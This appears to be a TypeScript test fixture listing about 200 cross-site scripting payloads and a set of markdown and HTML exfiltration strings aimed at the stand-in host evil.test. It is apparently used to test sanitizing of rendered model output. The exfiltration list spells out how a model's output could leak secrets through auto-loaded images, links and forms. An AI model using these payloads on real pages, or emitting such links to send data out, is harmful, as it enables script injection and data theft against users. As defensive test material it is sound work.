/** Set by a script of a payload that ran. */
export const MARKER = '__ran';
const RUN = `window.${MARKER}=1`;
const EVIL = 'https://evil.test';

const scripts: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt src=${EVIL}/x.js></sCrIpT>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${EVIL}/p.png">`,
  `<svg onload=${RUN}><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${MARKER}=1</script>"></iframe>`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<object data="javascript:${RUN}"></object><embed src="${EVIL}/e">`,
  `<style>@import '${EVIL}/s.css'; * { background: url(${EVIL}/b.png) }</style>`,
  `<link rel=stylesheet href="${EVIL}/l.css"><base href="${EVIL}/">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<form action="${EVIL}"><button formaction="javascript:${RUN}">x</button></form>`,
  `[press](javascript:${RUN})`,
  `[press](java\u200bscript:${RUN}) [again](JaVaScRiPt:${RUN})`,
  `[press](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW49MTwvc2NyaXB0Pg==)`,
  `![pixel](${EVIL}/p.gif) ![x](//evil.test/x.gif)`,
  `![ref][r]\n\n[r]: ${EVIL}/r.png`,
  `<${EVIL}/auto> ${EVIL}/bare www.evil.test`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#x3c;img src=x onerror=${RUN}&#x3e;`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
];

const wraps: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"><'>${payload}`,
  (payload) => `</textarea></title></script>${payload}`,
  (payload) => `**bold ${payload}** and _more_`,
  (payload) => `- a list\n- ${payload}`,
  (payload) => `\`\`\`html\n${payload}\n\`\`\`\n${payload}`,
  (payload) => `# ${payload}\n\n1. ${payload}`,
  (payload) => `\u202e${payload}\u2066 \ufeff`,
];

/** 200 texts that would do harm where text is not text. */
export const payloads: readonly string[] = wraps.flatMap((wrap) => scripts.map(wrap));

/** Ways in which words of a model would send something out by themselves, or lead somebody away. */
export const exfiltration: readonly string[] = wraps
  .slice(3, 7)
  .flatMap((wrap) =>
    [
      ...[
        `![ok](${EVIL}/p.png?d=secret)`,
        `![x](//evil.test/x.gif?d=secret)`,
        `![ref][r]\n\n[r]: ${EVIL}/r.png?d=secret`,
      ],
      ...[
        `[1] see below\n\n[1]: ${EVIL}/?q=secret`,
        `[our page](${EVIL}/login?d=secret)`,
        `[mail](mailto:help@evil.test?body=secret)`,
      ],
      ...[
        `<img src="${EVIL}/p?d=secret">`,
        `<a href="${EVIL}">press</a>`,
        `<iframe src="${EVIL}/f"></iframe>`,
      ],
      ...[
        `<link rel=prefetch href="${EVIL}/l">`,
        `<video poster="${EVIL}/v.png"></video>`,
        `<style>*{background:url(${EVIL}/b)}</style>`,
      ],
      ...[
        `<svg><image href="${EVIL}/s.png"/></svg>`,
        `<form action="${EVIL}"><input name=q></form>`,
        `<base href="${EVIL}/">`,
      ],
      ...[
        `<${EVIL}/auto?d=secret>`,
        `${EVIL}/bare?d=secret`,
        `www.evil.test/?d=secret`,
        `HTTPS://EVIL.TEST/A`,
      ],
      ...[
        `![a](data:image/svg+xml;base64,PHN2Zy8+)`,
        `[a](javascript:fetch('${EVIL}'))`,
        `![a]( ${EVIL}/sp.png "title")`,
      ],
      ...[`[![inner](${EVIL}/i.png)](${EVIL})`, `![](\n${EVIL}/nl.png)`, `https://c2VjcmV0.evil.test/`],
    ].map(wrap),
  );
